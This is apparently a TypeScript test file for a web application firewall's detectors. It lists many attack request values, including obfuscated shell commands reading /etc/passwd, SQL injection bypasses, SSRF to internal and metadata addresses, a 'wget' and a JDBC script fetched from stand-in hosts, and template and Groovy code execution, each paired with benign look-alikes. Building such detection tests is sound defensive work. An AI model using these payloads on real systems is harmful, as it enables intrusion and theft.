import { describe, expect, test } from 'vitest';
import { detectors } from './detectors.ts';
import { createDetection } from './engine.ts';
import { createValueInspector, type ValueAt } from './testing/value.ts';

const inspect = createValueInspector(detectors);

type Case = string | readonly [string, ValueAt];

/** What requests against known faults of servers look like, each family with honest values that resemble it. */
const families: readonly (readonly [string, readonly Case[], readonly Case[]])[] = [
  [
    'shell: a command in a field for one',
    [
      ['whoami', { name: 'cmd' }],
      ['expr 81 + 17', { name: 'shell_cmd' }],
      ['ls -la /data', { name: 'command' }],
      ['ping.exe -n 9 192.0.2.1', { name: 'cmdline' }],
    ],
    [
      ['list', { name: 'cmd' }],
      ['reboot', { name: 'cmd' }],
      ['open the door', { name: 'command' }],
      ['refresh', { name: 'command' }],
    ],
  ],
  [
    'shell: variables that hide a command',
    ['d=/etc&&f=/passwd&&r=cat&&$r $d$f', '; cat$k /etc$k/passwd$k', '${IFS}id', ";$0<<<'id'", '(cat /etc/passwd)>out.txt'],
    ['a=3;b=4, so a+b=7', 'price = $5 && qty = $6', 'HOME=/root in the profile', '$a + $b = $c'],
  ],
  [
    'shell: what a fence or a heading shows',
    ['备注`id`', '3;cat /etc/passwd', '3\nwhoami'],
    [
      '先编译项目\n```sh\nnpm run build\n```',
      '### `ps`',
      '下面是 `RUN` 指令\n```\nRUN apt-get update && apt-get install -y curl\n```',
    ],
  ],
  [
    'code: proof that code runs',
    ["printf(md5('k3'));", 'print(7731*8842);', 'v".system(id)."', "[9:system('wget http://192.0.2.1/a')]", '__construct'],
    ['print(a*b)', 'print(7*8)', '系统 (system) 的 id', 'the system (id 3)', 'md5(abc) 是多少'],
  ],
  [
    'code: names by which servers are told to run something',
    [
      ['mail[#post_render][]', { place: 'key' }],
      'com.sun.security.auth.module.JndiLoginModule required',
      'os.execute("id")',
      "getattr(__builtins__,'eval')('1')",
    ],
    ['JNDI 登录模块怎么配置', 'the built-ins of Python'],
  ],
  [
    'template: conditions that engines of PHP evaluate',
    [
      '{if-B:printf(md5(77))}{endif-B}',
      '{if:array_map(base_convert(1,2,3),array(1))}{end if}',
      '{pboot:if(system(id))}x{/pboot:if}',
    ],
    ['{if: vip}', '{if member}您好{/if}', '{{rows[0].name}}', '{{deps[1].value}}', '${amount} > 100'],
  ],
  [
    'nosql: updates and administration',
    [
      '{"$unset": {"pin": ""}}',
      '{"$push": {"roles": "admin"}}',
      'db.adminCommand({listDatabases: 1})',
      "EVAL \"return redis.call('GET','k')\" 0",
      'x\r\nCONFIG SET dir /var/www',
    ],
    ['{"set": {"pin": ""}}', 'redis.call 怎么用', '把 db.version 写进报告', 'config set 之后要重启吗'],
  ],
  [
    'ldap: a condition by its matching rule',
    ['userPassword:2.5.13.17:=abc', 'cn:dn:2.4.6.8.10:=John'],
    ['x := 5', 'version:2.5.1', '时间:12:30:00'],
  ],
  [
    'sql: words within words, numbers for spaces, variables named by quotes',
    [
      "' UNIunionON SELselectECT 4,5--",
      "' un<>ion sel<>ect 1,2,md5(7)#",
      'SEL%00ECT pin FROM members',
      '3.union.select 4',
      '5e0union(select 6)',
      "',msg=@`'`,msg=(select md5(5)),mail='",
      'select md5(8812)',
      '-7 OR 1 GROUP BY CONCAT(0x7e,md5(9),0x7e,FLOOR(RAND(0)*2)) HAVING MIN(0)#',
      '2 UNION SELECT pin as id from members_all',
      "4' and @@version_compile_os>1 and '1",
    ],
    [
      'the union. Select one',
      'a <> b',
      '1.union 2.select 3.from',
      '使用 `--network` 选项',
      '* `--graph`：请改用 `--data-root',
      'select md5 as the digest',
      'the union, select pins as ids from each',
    ],
  ],
  [
    'ssrf: inner addresses where a number, a name or a call-back stands',
    [
      ['http://192.168.7.9/', { name: 'orderNo' }],
      ['http://10.3.2.1:8081/a', { name: 'nickname' }],
      ['http://10.3.2.1/', { name: 'keyword' }],
      ['http://127.0.0.1:8080/', { name: 'callback' }],
      ['http://172.17.0.1:5000/x', { name: 'webhook_url' }],
      'http://[fd12::1]/',
      'http://169.254.7.7/',
      'http://rancher-metadata/latest/',
      'https://abc.302.r3dir.me',
      'http://10.1',
    ],
    [
      ['http://192.168.7.9/', { name: 'content' }],
      ['http://10.3.2.1:8081/a', { name: 'url' }],
      ['http://127.0.0.1:8080/', { name: 'link' }],
      ['https://pay.example.com/notify', { name: 'callback' }],
      '打不开 http://10.0.3.',
      'Cannot open http://1',
      '访问 redis://10.2',
      ['浏览器输入 http://10.3.2.1/oa/login', { name: 'keyword' }],
      ['http://10.3.2.1/oa/login', { name: 'title' }],
      'http://nacos.svc:8848/nacos 打不开了，请看一下',
      '#### master\n$ kubeadm init --cri-socket unix:///var/run/cri.sock',
    ],
  ],
  [
    'path: climbing in a parameter for a file, and drives with doubled slashes',
    [
      ['../../application/database', { name: 'lang' }],
      ['../modules/system/export.mds', { name: 'file_name' }],
      ['C://Windows//win.ini', { name: 'filepath' }],
    ],
    [
      ['../../pages/order/list', { name: 'path' }],
      ['../images/a.png', { name: 'file' }],
      ['zh-cn', { name: 'lang' }],
      '看图\n![步骤](../../../img/step_1.png)',
    ],
  ],
  [
    'xml: an attachment taken from a file',
    ['<a><x:Include xmlns:x="http://www.w3.org/2004/08/xop/include" href="file:///"/></a>'],
    ['<a><include href="part.xml"/></a>'],
  ],
  [
    'html: what ends a tag, and pages whose sentences end in quotes',
    ['"><h1>T</h1>', "'/><b>x", "Function('ale'+'rt(3)')()"],
    ['<p>他说"好"</p><p>她说"不"</p><p><br/></p>', '<p>!!! tip ""</p><p>见下图</p>', 'function(a){return a}'],
  ],
  [
    'scanner: a query for the whole schema',
    ['{__schema{types{name}}}', 'query { __type(name: "User") { fields { name } } }'],
    ['__schema 是什么', 'query { user(id: 3) { name } }'],
  ],
  [
    'jdbc, ColdFusion, gnuplot and ssh: options and statements that run something',
    [
      'jdbc:h2:mem:t;INIT=RUNSCRIPT FROM "http://x.example/a.sql"',
      'jdbc:mysql://192.0.2.9:3306/t?autoDeserialize=true',
      "<cfexecute name='id'></cfexecute>",
      "[2:system('touch /tmp/k')]",
      'x -oProxyCommand=sh a',
    ],
    ['jdbc:mysql://db.example.com:3306/t?useSSL=false', '<cfform>', '系统 init=1', 'ssh -o ConnectTimeout'],
  ],
  [
    'macros of wikis, Jelly, tasks of a framework that many back ends are made of',
    [
      '}}}{{async}}{{groovy}}println("a".execute().text){{/groovy}}{{/async}}',
      '<j:jelly xmlns:j="jelly"><g:evaluate>1</g:evaluate></j:jelly>',
      "ruoYiConfig.setProfile('/data/a.txt')",
      "com.example.common.utils.http.HttpUtils.sendPost('ftp://x.example','')",
      '`echo $(id) > /var/www/a.txt`',
      ['/api/users;.js', { place: 'path' }],
      ['/;/admin/list', { place: 'path' }],
      ['/services/query/pageJson/{"orderBy":"1 and 1=updatexml(1,concat(0x7e,user()),1)--"}/extend/{}', { place: 'path' }],
    ],
    [
      'Groovy 宏怎么写',
      '`npm install`',
      'setProfile(user)',
      ['/api/users;jsessionid=ab12', { place: 'path' }],
      ['/pages/a;b/list', { place: 'path' }],
    ],
  ],
  [
    'pieces: doubled quotes, breaks that are still written out, one joint, separators that no decoder reads',
    [
      '"<EMBED SRC=""http://x.example/a.swf"" AllowScriptAccess=""always""></EMBED>"',
      '<img\\nsrc=x\\nonerror=alert(3)>',
      "SEL'+'ECT pin FROM members",
      'q=%28prompt%28%29%29',
      "' AND{k 2}=2--",
      'eval(location.hash.slice(2))',
      '..%bg%qf..%bg%qfetc%bg%qfpasswd',
      '.?0x5cetc0x5cshadow',
    ],
    ['"他说 ""好"" 就走了"', "'第一段'+'第二段'", 'y=f(x)', 'a=b(c)', 'etc%20hosts', 'evaluate(name)', 'x and {y z}'],
  ],
  [
    'crlf: an exchange that somebody shows',
    ['嘍嘊Set-Cookie:a=b', 'a%0d%0aSet-Cookie:b=c'],
    ['请求如下\n```\nGET /a.jpg HTTP/1.1\nHost: example.com\n```', '<p>应答：</p><pre>\nHTTP/1.1 200 OK\n</pre>'],
  ],
];

const asked = (value: Case): string => {
  const [text, at] = typeof value === 'string' ? [value, {}] : value;
  return inspect(text, at).action;
};

describe.each(families)('%s', (_, attacks, honest) => {
  test.each(attacks.map((value) => [value]))('blocks %j', (value) => {
    expect(asked(value as Case)).toBe('block');
  });
  test.each(honest.map((value) => [value]))('passes %j', (value) => {
    expect(asked(value as Case)).toBe('pass');
  });
});

describe('a pair whose name is none', () => {
  const detection = createDetection({ detectors });
  const query = (pairs: Record<string, string>) => detection.inspect({ decodedPath: '/', query: pairs, headers: [] }).action;

  test('is read as one text', () => {
    expect(query({ '<meta http-equiv': 'set-cookie content="a=b">' })).toBe('block');
    expect(query({ 'cat /etc/passwd': '' })).toBe('block');
    expect(query({ cmd: 'id' })).toBe('block');
    expect(query({ shellCmd: 'ls' })).toBe('block');
  });

  test('and ordinary pairs are not', () => {
    expect(query({ 'filter[status]': 'open', 'a b': 'c' })).toBe('pass');
    expect(query({ cmd: 'open', command: 'list', exec: '1' })).toBe('pass');
  });
});
